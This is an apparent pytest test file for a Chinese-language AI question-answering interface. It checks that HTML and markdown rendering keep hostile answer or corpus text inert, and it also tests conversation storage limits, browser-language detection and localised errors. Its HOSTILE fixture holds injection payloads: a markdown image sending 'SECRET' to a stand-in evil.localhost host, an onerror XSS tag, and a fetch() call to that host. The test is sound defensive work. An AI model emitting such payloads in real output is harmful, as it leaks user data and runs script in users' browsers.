"""What the UI renders from real answers over the real corpus, and from hostile model or corpus text:
our markup only, the text shown as typed, in the browser's language."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from aiqa.models import Citation
from aiqa.pipeline import Pipeline
from aiqa.store import STAGES
from aiqa.ui_conversations import MAX_CONVERSATIONS, MAX_STORED_TURNS, Conversation, Conversations, Turn
from aiqa.ui_render import conversation_html, conversation_markdown, turn_plain_text
from aiqa.ui_text import STRINGS, language_of, text

HOSTILE = (
    "成立于2025年9月[1]。\r\r![x](//evil.localhost/leak.png?q=SECRET)\r\r**粗体** [点我](http://evil.localhost/click) "
    '<img src=x onerror=alert(1)> <a href="http://evil.localhost">a</a> ${fetch("//evil.localhost")} $$x^2$$'
)
OUR_TAGS = {
    "div",
    "section",
    "span",
    "a",
    "sup",
    "br",
    "p",
    "h4",
    "details",
    "summary",
    "ul",
    "li",
    "mark",
    "button",
    "pre",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(markup: str) -> _Tags:
    parser = _Tags()
    parser.feed(markup)
    return parser


def _hostile_turn() -> Turn:
    passage = Citation(
        n=1,
        doc="hostile.md",
        title="<b>标题</b>",
        start=0,
        end=len(HOSTILE),
        text=HOSTILE,
        score=1.0,
        highlight=[(0, 12)],
    )
    return Turn(question=HOSTILE, answer=HOSTILE, answerable=True, citations=[passage], notices=[HOSTILE])


def test_hostile_text_becomes_text_inside_our_markup() -> None:
    conversation = Conversation(turns=[_hostile_turn()])
    for markup in (
        conversation_html(conversation, "zh-Hans"),
        conversation_html(conversation, "zh-Hans", pending=Turn(question=HOSTILE), draft=HOSTILE),
    ):
        parsed = _parse(markup)
        assert {tag for tag, _ in parsed.tags} <= OUR_TAGS
        links = [attrs.get("href") for tag, attrs in parsed.tags if tag == "a"]
        assert all(href and href.startswith("#aiqa-t") for href in links)
        shown = "".join(parsed.text)
        assert "![x](//evil.localhost/leak.png?q=SECRET)" in shown and "<img src=x onerror=alert(1)>" in shown
        assert "\r" not in markup


def test_the_markdown_export_shows_hostile_text_as_typed() -> None:
    conversation = Conversation(turns=[_hostile_turn()])
    tokens = MarkdownIt("commonmark").parse(conversation_markdown(conversation, "en"))
    kinds = {child.type for token in tokens for child in (token.children or [])} | {t.type for t in tokens}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}
    rendered = MarkdownIt("commonmark").render(conversation_markdown(conversation, "en"))
    assert "![x](//evil.localhost/leak.png?q=SECRET)" in rendered.replace("&quot;", '"')


@pytest.fixture(scope="module")
def two_turns(real_pipeline: Pipeline) -> Conversation:
    questions = ["温州市人工智能局是什么时候成立的？", "今天北京的天气怎么样？"]
    return Conversation(turns=[Turn.from_answer(real_pipeline.ask(q)) for q in questions])


def test_each_answer_links_only_to_its_own_passages(two_turns: Conversation) -> None:
    parsed = _parse(conversation_html(two_turns, "zh-Hans"))
    ids = {attrs["id"] for _, attrs in parsed.tags if attrs.get("id")}
    links = [attrs["href"] for tag, attrs in parsed.tags if tag == "a"]
    assert links and all(href.startswith("#aiqa-t0-s") and href[1:] in ids for href in links)
    assert not any(i.startswith("aiqa-t1-s") for i in ids)  # the refusal cites nothing


def test_copy_and_export_carry_markers_and_passages(two_turns: Conversation) -> None:
    first = two_turns.turns[0]
    plain = turn_plain_text(first, "zh-Hans")
    assert plain.startswith(first.answer) and "[1]" in plain and first.citations[0].text in plain
    markdown = conversation_markdown(two_turns, "zh-Hans")
    assert "## 温州市人工智能局是什么时候成立的？" in markdown and "语料中没有找到这个问题的答案" in markdown


def test_the_browser_record_survives_a_round_trip_and_stays_bounded(two_turns: Conversation) -> None:
    record = Conversations(items=[two_turns], current=two_turns.id)
    stored = record.model_dump(mode="json")
    assert Conversations.load(stored) == record
    assert Conversations.load({"items": "from an older version"}).items == []
    for _ in range(MAX_CONVERSATIONS + 5):
        record.start()
        record.record(Turn(question="问"))
    assert len(record.items) == MAX_CONVERSATIONS and record.active().questions == ["问"]
    long = record.active()
    for _ in range(MAX_STORED_TURNS):
        record.record(Turn(question="再问"))
    assert record.items == [long] and len(long.turns) == MAX_STORED_TURNS + 1


@pytest.mark.parametrize(
    ("header", "language"),
    [
        ("zh-CN,zh;q=0.9", "zh-Hans"),
        ("zh-TW", "zh-Hant"),
        ("zh-HK,en;q=0.5", "zh-Hant"),
        ("en-US", "en"),
        (None, "en"),
    ],
)
def test_the_interface_language_follows_the_browser(header: str | None, language: str) -> None:
    assert language_of(header) == language


def test_every_string_exists_in_all_three_languages() -> None:
    assert text("zh-Hant", "rebuild") == "重建索引" and text("zh-Hant", "sources") == "來源"
    for stage in STAGES:
        assert f"stage_{stage}" in STRINGS


def test_an_error_is_told_in_the_language_of_the_question_or_the_page(real_pipeline: Pipeline) -> None:
    from aiqa.errors import QuestionError
    from aiqa.ui import error_turn

    for question, page, expected in (
        ("太长的问题" * 500, "en", "这个问题无法按原样提问。"),
        ("x" * 2500, "zh-Hans", "这个问题无法按原样提问。"),
        ("x" * 2500, "en", "This question cannot be asked as it is."),
    ):
        with pytest.raises(QuestionError) as raised:
            real_pipeline.ask(question)
        turn = error_turn(question, raised.value, page)
        assert turn.error == expected and "2,000 characters" in (turn.error_detail or "")
